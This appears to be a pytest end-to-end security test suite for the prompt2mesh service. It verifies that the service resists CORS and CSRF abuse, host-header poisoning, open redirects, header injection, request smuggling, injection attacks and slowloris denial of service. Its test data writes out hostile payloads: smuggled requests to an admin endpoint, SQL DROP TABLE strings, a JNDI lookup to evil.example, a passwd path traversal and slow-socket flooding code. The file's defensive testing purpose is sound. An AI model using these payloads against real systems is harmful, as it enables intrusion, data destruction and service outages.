"""Tampering and denial by requests themselves: origins, hosts, lines in headers, two lengths, injections, slow ones."""

import contextlib
import socket
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from prompt2mesh.studio.ports.records import StoredFile
from tests.e2e.attack.conftest import Studio, problem
from tests.support.api import Person

EVIL = "https://evil.example"


@pytest.mark.parametrize("origin", [EVIL, "null", "http://localhost:3000", "http://127.0.0.1.evil.example"])
def test_no_page_of_another_origin_reads_an_answer(studio: Studio, mallory: Person, origin: str) -> None:
    """CORS is closed: a browser gives no answer to the page, and sends none of what needs leave first."""
    http = studio.client(address="127.0.0.21")
    service = studio.service
    for base, path in ((service.api_url, "/v1/me"), (service.web_url, "/_stcore/host-config"),
                       (service.mcp_url.removesuffix("/mcp"), "/mcp")):  # fmt: skip
        asked = http.get(base + path, headers={"Origin": origin, "Authorization": f"Bearer {mallory.token}"})
        leave = http.options(base + path, headers={
            "Origin": origin, "Access-Control-Request-Method": "DELETE",
            "Access-Control-Request-Headers": "authorization",
        })  # fmt: skip
        for answer in (asked, leave):
            assert answer.headers.get("access-control-allow-origin") is None, base
            assert answer.headers.get("access-control-allow-credentials") is None, base


@pytest.mark.parametrize("origin", [EVIL, "null", "http://localhost:3000", "http://127.0.0.1:1"])
def test_no_page_of_another_origin_has_the_browser_do_something(studio: Studio, origin: str) -> None:
    """CSRF, and cross-site web socket hijacking: also by a page at another port of this machine."""
    web = studio.client(address="127.0.0.22", base=studio.service.web_url)
    for path in ("/session/remember", "/session/forget"):
        for headers in (
            {"Origin": origin},
            {"Sec-Fetch-Site": "cross-site"},
            {"Origin": origin, "Sec-Fetch-Site": "same-site"},
        ):
            answer = web.post(
                path, json={"ticket": "x"}, headers={**headers, "Cookie": "prompt2mesh_session=of-a-victim"}
            )
            assert (answer.status_code, answer.headers.get("set-cookie")) == (403, None), (path, headers)
    assert web.put("/_stcore/upload_file/x/y", headers={"Origin": origin}).status_code == 403
    for port, path in ((studio.service.web_port, "/_stcore/stream"), (studio.router_port, "/websockify")):
        with pytest.raises(InvalidStatus) as refused:
            connect(f"ws://127.0.0.1:{port}{path}", origin=origin,  # type: ignore[arg-type]
                    additional_headers={"Cookie": "prompt2mesh_session=of-a-victim"}, open_timeout=20)  # fmt: skip
        assert refused.value.response.status_code in {401, 403, 404}
    mcp = studio.client(address="127.0.0.22").post(studio.service.mcp_url, json={}, headers={"Origin": origin})
    assert mcp.status_code in {401, 403}


def test_a_link_from_elsewhere_starts_nothing(studio: Studio) -> None:
    web = studio.client(address="127.0.0.22", base=studio.service.web_url)
    answer = web.get("/instance/open", follow_redirects=False, headers={
        "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Cookie": "prompt2mesh_session=of-a-victim",
    })  # fmt: skip
    assert (answer.status_code, answer.headers["location"]) == (303, "/")


def test_the_host_that_a_client_names_is_in_no_answer(studio: Studio, mallory: Person) -> None:
    """Poisoned links: addresses are made of the settings."""
    http = studio.client(address="127.0.0.23")
    evil = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https",
            "Forwarded": "host=evil.example", "X-Original-URL": "https://evil.example/", "X-Rewrite-URL": "/v1/admin/users"}  # fmt: skip
    project = mallory.post("/v1/projects", {"name": "mine"})["id"]
    bearer = {"Authorization": f"Bearer {mallory.token}"}
    for method, url in (
        ("GET", "/"), ("GET", "/docs"), ("GET", "/v1/me"), ("GET", "/nowhere"), ("GET", "/docs/"),
        ("POST", f"/v1/projects/{project}/share"), ("GET", "/v1/uploads"),
        ("GET", f"{studio.service.web_url}/session/provider"), ("GET", f"{studio.service.web_url}/instance/open"),
    ):  # fmt: skip
        answer = http.request(method, url, headers={**evil, **bearer}, follow_redirects=False)
        assert "evil.example" not in answer.text, url
        assert "evil.example" not in (answer.headers.get("location") or "").replace("//evil.example/docs", ""), url
    asked = studio.client(address="127.0.0.23").get(studio.service.mcp_url, headers={**evil, **bearer})
    assert asked.status_code == 421


@pytest.mark.parametrize("path", [
    "//evil.example/", "//evil.example/docs/", "/%2f%2fevil.example/", "/\\evil.example/", "/docs//evil.example",
    "/v1/auth/oidc/login?return_to=https://evil.example/",
])  # fmt: skip
def test_no_redirect_leads_elsewhere(studio: Studio, path: str) -> None:
    http = studio.client(address="127.0.0.24")
    for base in (studio.service.api_url, studio.service.web_url):
        target = http.get(base + path, follow_redirects=False).headers.get("location", "/")
        assert urlsplit(target).netloc in {"", urlsplit(base).netloc}, target
        assert not target.startswith("//"), target


@pytest.mark.parametrize(
    "value", ["x%0d%0aSet-Cookie:%20hacked=1", "x%0aX-Injected:%201", "x%00", "%E5%98%8A%E5%98%8DSet-Cookie:h=1"]
)
def test_no_line_break_becomes_a_header(studio: Studio, mallory: Person, value: str) -> None:
    http = studio.client(address="127.0.0.25")
    web, api = studio.service.web_url, studio.service.api_url
    for url in (f"{api}/v1/files/{'0' * 64}/{value}?expires=1&signature=x", f"{api}/v1/auth/oidc/login?return_to={value}",
                f"{web}/session/arrive?ticket={value}", f"{web}/instance/open?project={value}", f"{api}/{value}/"):  # fmt: skip
        answer = http.get(url, follow_redirects=False)
        assert "x-injected" not in answer.headers
        assert "hacked" not in str(answer.headers.get("set-cookie"))
    assert mallory.ask("POST", "/v1/projects", {"name": "a\r\nSet-Cookie: b"}).status_code == 422


def spoken(port: int, data: bytes, *, wait_s: float = 2.0) -> bytes:
    """What a server says to some bytes."""
    with socket.create_connection(("127.0.0.1", port), timeout=wait_s) as connection:
        connection.sendall(data)
        found = b""
        with contextlib.suppress(TimeoutError, ConnectionResetError):
            while len(found) < 65536 and (more := connection.recv(65536)):
                found += more
        return found


HIDDEN = b"GET /v1/admin/users HTTP/1.1\r\nHost: a\r\n\r\n"
SMUGGLED: dict[str, bytes] = {
    "two lengths": b"Content-Length: 4\r\nContent-Length: 40\r\n\r\n" + HIDDEN,
    "a list of lengths": b"Content-Length: 4, 40\r\n\r\n" + HIDDEN,
    "a length that is none": b"Content-Length: +4\r\n\r\n" + HIDDEN,
    "a chunk of no length": b"Transfer-Encoding: chunked\r\n\r\nzz\r\n" + HIDDEN,
    "a chunk beyond all": b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n" + HIDDEN,
    "a space before the colon": b"Content-Length : 40\r\n\r\n" + HIDDEN,
    "no name": b": x\r\n\r\n" + HIDDEN,
    "an encoding hidden by a tab": b"Transfer-Encoding:\x0bchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + HIDDEN,
    "both, the encoding last": b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
}


@pytest.mark.parametrize("name", SMUGGLED)
def test_a_request_has_one_length_or_is_refused(studio: Studio, name: str) -> None:
    """Smuggling: no second request comes out of one that a proxy took for a single one."""
    for port in (studio.service.api_port, studio.service.mcp_port, studio.router_port):
        said = spoken(port, b"POST /healthz HTTP/1.1\r\nHost: a\r\n" + SMUGGLED[name])
        statuses = [line for line in said.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]
        assert len(statuses) <= 1, said
        assert not statuses or statuses[0].startswith(b"HTTP/1.1 4"), said


INJECTED = ("' OR '1'='1", "'; DROP TABLE users; --", "%' UNION SELECT email FROM users --", "\\", "%", "_", "\u0000x",
            "1) OR (SELECT 1)=(1", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../etc/passwd")  # fmt: skip


@pytest.mark.parametrize("text", INJECTED)
def test_text_is_text_to_the_database(studio: Studio, mallory: Person, alice: Person, text: str) -> None:
    for path, name in (("/v1/projects", "q"), ("/v1/projects", "tag"), ("/v1/gallery", "q"), ("/v1/gallery", "tag"),
                       ("/v1/library", "q"), ("/v1/tasks", "project_id"), ("/v1/tasks", "cursor"), ("/v1/batches", "cursor"),
                       ("/v1/me/audit", "cursor"), ("/v1/me/webhooks", "task_id")):  # fmt: skip
        answer = mallory.ask("GET", path, params={name: text})
        assert answer.status_code in {200, 404, 422}, f"{path}?{name}: {answer.status_code} {answer.text}"
        assert not [one for one in (*studio.alices.values(), alice.user.email) if one != "main" and one in answer.text]
        assert "49" not in answer.text or "{{" not in text or answer.status_code != 200 or path == "/v1/library"
    for path in ("/v1/projects/{}", "/v1/versions/{}", "/v1/tasks/{}", "/v1/shared/{}", "/v1/library/{}"):
        answer = mallory.ask("GET", path.format(httpx_quote(text)))
        assert answer.status_code in {400, 404, 422}, f"{path}: {answer.status_code} {answer.text}"
    named = mallory.ask("POST", "/v1/projects", {"name": text, "tags": [text]})
    assert named.status_code in {201, 422}
    if named.status_code == 201:
        assert named.json()["name"] == text
    with studio.platform.services.store.read() as tx:
        assert tx.users.get(alice.user.id) is not None


def httpx_quote(text: str) -> str:
    """As a path's last part, with nothing that a client would take for a way up."""
    return "".join(f"%{byte:02X}" for byte in text.encode())


def test_slow_requests_and_many_sockets_hold_nobody_up(studio: Studio, alice: Person) -> None:
    """Slowloris on heads, bodies and answers: they end, and meanwhile everybody else is served."""
    before = descriptors(studio)
    silent = silent_readers(studio, 60)
    head = b"POST /v1/auth/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 60\r\n"
    held: list[socket.socket] = []
    for port in (studio.service.api_port, studio.service.mcp_port, studio.router_port, studio.service.web_port):
        for start in (b"", b"GET / HT", head, head + b"\r\n{"):
            for _ in range(12):
                held.append(socket.create_connection(("127.0.0.1", port), timeout=40))
                held[-1].sendall(start)
    began = time.monotonic()
    alice.get("/v1/me")
    assert time.monotonic() - began < 10, "others wait"
    for one in held:
        with contextlib.suppress(ConnectionResetError):
            assert one.recv(100)[:12] in {b"HTTP/1.1 408", b"HTTP/1.1 401", b"HTTP/1.1 404", b"HTTP/1.1 405", b""}
        one.close()
    assert time.monotonic() - began < 60
    deadline = time.monotonic() + 120
    while descriptors(studio) > before + 20:
        assert time.monotonic() < deadline, "answers that nobody reads are held for ever"
        time.sleep(0.5)
    for one in silent:
        one.close()


def descriptors(studio: Studio) -> int:
    """What the API has open: sockets, and files of blobs."""
    return len(list(Path(f"/proc/{studio.service.processes['api'].pid}/fd").iterdir()))


def silent_readers(studio: Studio, count: int) -> list[socket.socket]:
    """Somebody without an account, who asks again and again for a large model of the gallery and reads nothing of it."""
    blob = studio.platform.services.blobs.put_bytes(b"glTF" * 2_000_000)
    file = StoredFile(name="model.glb", digest=blob.digest, size_bytes=blob.size_bytes, media_type="model/gltf-binary")
    address = urlsplit(studio.platform.file_address(file)[0])
    readers = [socket.socket() for _ in range(count)]
    for one in readers:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.connect(("127.0.0.1", studio.service.api_port))
        one.sendall(f"GET {address.path}?{address.query} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
    return readers


def test_refusals_are_problem_documents_that_quote_no_secret(studio: Studio) -> None:
    """Information disclosure: no trace, no path of the machine, no password or key in an error, nor in a log."""
    http = studio.client(address="127.0.0.26")
    canary = "canary-Zx81-of-somebody"
    tried = [
        http.post("/v1/auth/login", json={"email": "x@example.com", "password": canary}),
        http.post("/v1/auth/login", json={"email": "x@example.com", "password": [canary]}),
        http.post("/v1/auth/login", content=f'{{"password": "{canary}', headers={"Content-Type": "application/json"}),
        http.post("/v1/auth/refresh", json={"refresh_token": canary}),
        http.get("/v1/me", headers={"Authorization": f"Bearer {canary}"}),
        http.get("/v1/me", headers={"X-API-Key": canary}),
        studio.mallory.ask("POST", "/v1/me/llm-keys", {"provider": "openai", "api_key": f"{canary} {canary}"}),
        studio.mallory.ask("POST", "/v1/me/llm-keys", {"provider": canary, "api_key": canary}),
        studio.mallory.ask("DELETE", "/v1/me", {"password": canary}),
        http.get(f"{studio.service.web_url}/session/arrive?ticket={canary}", follow_redirects=False),
        http.get(f"http://127.0.0.1:{studio.router_port}/__prompt2mesh/enter?ticket={canary}"),
    ]
    for answer in tried[:9]:
        assert problem(answer)[1], answer.text
    for answer in tried:
        assert answer.status_code < 500
        assert canary not in answer.text, answer.request.url
        assert "Traceback" not in answer.text
        assert str(studio.service.data) not in answer.text
    for part in studio.service.processes:
        assert canary not in studio.service.log(part), part
